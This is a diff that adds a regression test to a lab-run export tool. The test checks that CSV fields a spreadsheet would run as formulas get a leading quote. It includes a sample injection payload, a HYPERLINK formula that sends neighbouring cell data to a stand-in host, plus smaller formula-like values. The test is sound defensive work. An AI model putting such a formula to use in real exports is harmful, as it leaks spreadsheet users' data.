@@ -159,3 +159,30 @@ def test_a_run_without_membranes_exports_every_table(tmp_path: Path, fmt: str):
         for table in ("verdict", "membranes"):
             empty, made = (pq.read_table(tmp_path / d / f"{table}.parquet") for d in ("out", "out2"))
             assert made.num_rows and pa.concat_tables([made, empty]).num_rows == made.num_rows, table
+
+
+def test_csv_text_a_spreadsheet_would_run_as_a_formula_is_quoted(tmp_path: Path):
+    """An outside tester: a file named ``=HYPERLINK(…)`` given to a run, or a hand-edited recipe
+    name, reached events.csv as it was, and Excel or LibreOffice opening the export ran it (a
+    link that sends the cell's neighbours away, or a DDE command). Text starting as a formula
+    gets a leading ``'``; numbers, negative ones too, stay numbers."""
+    import sqlite3
+
+    from conftest import castrig
+
+    info = RunInfo(run_id="r1", recipe_name="=1+1", recipe_path="d", profile_name="sim", profile_path="p",
+                   software_version="t", seed=1, operator="", started_utc="2026-01-01T00:00:00Z")
+    with SqliteRunStore(tmp_path / "runs").create_run(info) as rec:
+        rec.add_samples(0.0, {"temperature_c": -4.5})
+        rec.add_event(0.0, "capture", "camera", '=HYPERLINK("http://example.invalid/?"&A1,"open")', {})
+        run_dir = rec.run_dir
+    with sqlite3.connect(run_dir / "run.sqlite") as db:  # what a hand edit or another tool may leave
+        db.execute("INSERT INTO events (t_s, kind, source, message, data_json) VALUES (1, 'note', '@SUM(1)', '-2+3', '{}')")
+    done = castrig("export", str(run_dir), "--to", str(tmp_path / "x"))
+    assert done.returncode == 0, done.stderr
+    events = read_csv(tmp_path / "x" / "events.csv")
+    assert [e["message"] for e in events] == ['\'=HYPERLINK("http://example.invalid/?"&A1,"open")', "'-2+3"]
+    assert events[1]["source"] == "'@SUM(1)"
+    assert read_csv(tmp_path / "x" / "samples.csv")[0]["value"] == "-4.5"
+    again = castrig("export", str(run_dir), "--to", str(tmp_path / "x"))  # its own tables: replaced, not refused
+    assert again.returncode == 0, again.stderr
